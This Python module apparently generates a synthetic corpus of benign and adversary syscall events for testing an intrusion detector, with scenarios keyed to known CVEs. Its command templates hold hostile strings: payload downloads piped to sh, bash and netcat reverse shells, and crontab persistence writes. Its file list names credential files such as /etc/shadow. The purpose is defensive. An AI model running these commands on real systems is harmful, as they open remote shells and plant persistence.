"""Deterministic two-population corpus for smoke runs and end-to-end checks.

Benign events come from desktop and housekeeping software; adversary events come
from exploited network services and the post-exploitation tooling they spawn.
Every event is unique after normalization.
"""

from __future__ import annotations

import random
from pathlib import Path

from .events import NA, RawEvent, write_events
from .normalize import to_normalized_event

# scenario id -> (service process, service user, shell, scenario-specific port, weight)
SCENARIOS = {
    "CVE-2021-41773": ("httpd", "daemon", "/usr/sbin/nologin", 80, 1),
    "CVE-2017-7529": ("nginx", "www-data", "/usr/sbin/nologin", 80, 1),
    "CVE-2018-16509": ("gs", "www-data", "/usr/sbin/nologin", 80, 1),
    "CVE-2022-0543": ("redis-server", "redis", "/usr/sbin/nologin", 6379, 1),
    "CVE-2019-5736": ("runc", "root", "/bin/sh", 2375, 1),
    "CVE-2021-44228": ("java", "tomcat", "/usr/sbin/nologin", 1389, 2),
}
HELD_OUT_SCENARIO = "CVE-2021-44228"

_BENIGN_USERS = ["alice", "bob", "carol", "dave", "ubuntu"]
_BENIGN_SHELLS = ["/bin/bash", "/bin/zsh"]
_BENIGN_FILE_PROCS = ["vim", "less", "grep", "tar", "gzip", "cp", "make", "gcc", "git", "ls", "cat", "sort"]
_BENIGN_FILE_SYSCALLS = ["read", "write", "close", "fstat", "lstat", "getdents64", "fsync", "rename"]
_BENIGN_DAEMONS = ["crond", "logrotate", "rsyslogd", "systemd-journald", "cupsd", "updatedb"]
_BENIGN_COMMANDS = [
    "ls -la {home}/{dir}", "grep -rn TODO {home}/src/proj{n}", "tar czf backup_{n}.tgz {home}/{dir}",
    "git log -n {n}", "make -j{m} target{n}", "gcc -O2 -c module{n}.c", "sort -u list_{n}.txt",
    "gzip -9 report_{n}.csv", "less notes_{n}.md", "cp draft_{n}.odt {home}/{dir}",
]
_BENIGN_NET = [
    ("dhclient", "recvfrom", 67), ("dhclient", "sendto", 67), ("systemd-resolved", "sendto", 53),
    ("systemd-resolved", "recvfrom", 53), ("chronyd", "sendto", 123), ("sshd", "accept", 22),
    ("firefox", "connect", 443), ("apt-get", "connect", 80),
]
_DIRS = ["docs", "notes", "src", "music", "photos", "projects", "reports", "downloads"]
_EXTS = ["txt", "md", "csv", "odt", "c", "h", "py", "json", "png", "log"]
_LIBS = ["c", "m", "z", "ssl", "crypto", "pthread", "gcc_s", "stdc++", "ncursesw", "readline"]
_LOCALES = ["en_US", "de_DE", "fr_FR", "es_ES", "it_IT", "ja_JP"]

_ADV_TOOLS = ["sh", "bash", "wget", "curl", "nc", "chmod", "base64", "perl", "whoami", "id", "uname"]
_ADV_COMMANDS = [
    "sh -c wget http://{ip}/x{n} -O /dev/shm/.x{n}", "sh -c curl -s http://{ip}:{port}/p{n} | sh",
    "bash -i >& /dev/tcp/{ip}/4444 0>&1 #{n}", "nc {ip} 4444 -e /bin/sh #{n}", "chmod +x /dev/shm/.x{n}",
    "base64 -d /dev/shm/.b{n}", "perl -e socket{n}", "whoami #{n}", "id -a #{n}", "uname -a #{n}",
    "curl -fsSL http://{ip}/m{n}.sh -o /var/spool/cron/crontabs/{user}",
]
_ADV_FILES = [
    "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/root/.ssh/authorized_keys", "/var/spool/cron/crontabs/root",
    "/dev/shm/.x{n}", "/var/tmp/.cache{n}", "/etc/ld.so.preload",
]
_ADV_FILE_SYSCALLS = ["openat", "open", "unlink", "chmod", "write"]
_ADV_MEMORY = ["mprotect", "mmap", "memfd_create", "ptrace"]


def _ip(rng: random.Random, prefix: str) -> str:
    return f"{prefix}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _benign_event(rng: random.Random) -> RawEvent:
    user = rng.choice(_BENIGN_USERS)
    home = f"/home/{user}"
    n = rng.randint(1, 99999)
    roll = rng.random()
    if roll < 0.45:
        proc = rng.choice(_BENIGN_FILE_PROCS)
        kind = rng.randrange(4)
        if kind == 0:
            fd = f"{home}/{rng.choice(_DIRS)}/{rng.choice(_DIRS)}_{n}.{rng.choice(_EXTS)}"
        elif kind == 1:
            fd = f"/usr/lib/x86_64-linux-gnu/lib{rng.choice(_LIBS)}.so.{rng.randint(0, 9)}.{rng.randint(0, 99)}"
        elif kind == 2:
            fd = f"/usr/share/locale/{rng.choice(_LOCALES)}/LC_MESSAGES/{proc}{n % 50}.mo"
        else:
            fd = f"{home}/.config/{proc}/settings_{n}.json"
        return RawEvent(proc, rng.choice(_BENIGN_FILE_SYSCALLS), fd, user, rng.choice(_BENIGN_SHELLS), label="benign")
    if roll < 0.65:
        proc = rng.choice(_BENIGN_DAEMONS)
        fd = rng.choice([
            f"/var/log/{proc}.log.{n % 30}", f"/etc/{proc}/conf.d/{n % 400}.conf",
            f"/usr/share/zoneinfo/Etc/GMT+{n % 12}", f"/var/lib/{proc}/state_{n}",
        ])
        return RawEvent(proc, rng.choice(["read", "write", "fstat", "close"]), fd, "root", "/bin/bash", label="benign")
    if roll < 0.85:
        tmpl = rng.choice(_BENIGN_COMMANDS)
        args = tmpl.format(home=home, dir=rng.choice(_DIRS), n=n, m=rng.randint(2, 16))
        return RawEvent(args.split()[0], "execve", NA, user, rng.choice(_BENIGN_SHELLS), evt_args=args, label="benign")
    proc, syscall, port = rng.choice(_BENIGN_NET)
    return RawEvent(
        proc, syscall, NA, "root" if proc != "firefox" else user, "/bin/bash",
        net_type="ipv4", client_ip=_ip(rng, "192.168"), server_ip=_ip(rng, "10.0"), server_port=port,
        label="benign",
    )


def _adversary_event(rng: random.Random, scenario: str) -> RawEvent:
    service, user, shell, sport, _ = SCENARIOS[scenario]
    n = rng.randint(1, 99999)
    ip = _ip(rng, "203.0")
    proc = service if rng.random() < 0.4 else rng.choice(_ADV_TOOLS)
    roll = rng.random()
    kw = dict(scenario_id=scenario, label="adversary")
    if roll < 0.35:
        args = rng.choice(_ADV_COMMANDS).format(ip=ip, n=n, port=sport, user=user)
        return RawEvent(proc, "execve", NA, user, shell, evt_args=args, **kw)
    if roll < 0.6:
        fd = rng.choice(_ADV_FILES).format(n=n)
        return RawEvent(proc, rng.choice(_ADV_FILE_SYSCALLS), fd, user, shell, **kw)
    if roll < 0.8:
        port = rng.choice([4444, sport, 8080])
        return RawEvent(
            proc, rng.choice(["connect", "sendto", "recvfrom"]), NA, user, shell,
            net_type="ipv4", client_ip=_ip(rng, "172.17"), server_ip=ip, server_port=port, **kw,
        )
    fd = rng.choice([NA, f"/dev/shm/.x{n}", f"memfd:payload{n}"])
    return RawEvent(proc, rng.choice(_ADV_MEMORY), fd, user, shell, **kw)


def _weighted_counts(total: int) -> dict[str, int]:
    weights = {s: v[4] for s, v in SCENARIOS.items()}
    wsum = sum(weights.values())
    counts = {s: total * w // wsum for s, w in weights.items()}
    for s in list(counts)[: total - sum(counts.values())]:
        counts[s] += 1
    return counts


def generate_corpus(n_benign: int = 1000, n_adversary: int = 1000, seed: int = 0) -> list[RawEvent]:
    """Benign events first, then adversary events grouped by scenario.

    No two events share a normalized canonical key, across or within labels.
    """
    rng = random.Random(seed)
    seen: set[str] = set()
    out: list[RawEvent] = []

    def take(make, count):
        got, tries = 0, 0
        while got < count:
            tries += 1
            if tries > 100 * count + 1000:
                raise RuntimeError("synthetic generator could not find enough unique events")
            e = make()
            key = to_normalized_event(e).canonical_key
            if key in seen:
                continue
            seen.add(key)
            out.append(e)
            got += 1

    take(lambda: _benign_event(rng), n_benign)
    for scenario, count in _weighted_counts(n_adversary).items():
        take(lambda s=scenario: _adversary_event(rng, s), count)
    return out


def write_synthetic(path: str | Path, n_benign: int = 1000, n_adversary: int = 1000, seed: int = 0) -> list[RawEvent]:
    events = generate_corpus(n_benign, n_adversary, seed)
    write_events(events, path)
    return events
